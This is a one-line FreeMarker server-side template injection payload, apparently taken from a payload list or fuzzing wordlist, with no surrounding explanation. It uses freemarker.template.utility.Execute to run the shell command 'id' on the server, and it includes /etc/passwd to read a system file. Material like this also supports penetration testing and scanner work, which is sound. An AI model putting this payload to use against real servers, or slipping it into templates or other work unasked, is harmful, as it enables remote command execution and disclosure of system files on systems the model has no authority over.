${"freemarker.template.utility.Execute"?new()("id")}${x!}<#include "/etc/passwd">
